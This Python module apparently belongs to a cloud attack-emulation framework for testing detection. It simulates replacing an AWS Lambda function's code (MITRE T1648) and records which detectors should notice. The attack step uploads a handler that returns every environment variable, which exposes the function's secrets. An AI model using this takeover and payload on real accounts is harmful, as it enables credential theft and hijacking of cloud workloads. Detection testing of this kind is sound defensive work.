"""Replace the code of a function: the next event runs the intruder's, with the function's role."""

from bastide.attack import scenery
from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="A function's code is replaced",
    mitre=("T1648",),
    tactic="execution",
    detectors=("GuardDuty Persistence:IAMUser/AnomalousBehavior", "Amazon Inspector Lambda code scanning"),
    expected=Recorded("deploying code is ordinary work; code signing would tell whose it is"),
    source="AWS Lambda API Reference, UpdateFunctionCode",
)


def _hash(stage: Stage, name: str) -> str:
    found = stage.owner().client("lambda").get_function_configuration(FunctionName=name)
    return str(found["CodeSha256"])


def prepare(stage: Stage) -> Scene:
    """A function with its own code."""
    name, role = scenery.function(stage, "orders")
    return {"function": name, "role": role, "before": _hash(stage, name)}


def attack(stage: Stage, scene: Scene) -> None:
    """Put other code in its place."""
    code = scenery.code("import os\n\n\ndef handler(event, context):\n    return dict(os.environ)\n")
    stage.attacker().client("lambda").update_function_code(FunctionName=scene["function"], ZipFile=code)


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The code's hash is another one."""
    return bool(_hash(stage, scene["function"]) != scene["before"])


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the function."""
    scenery.drop_function(stage, scene["function"], scene["role"])
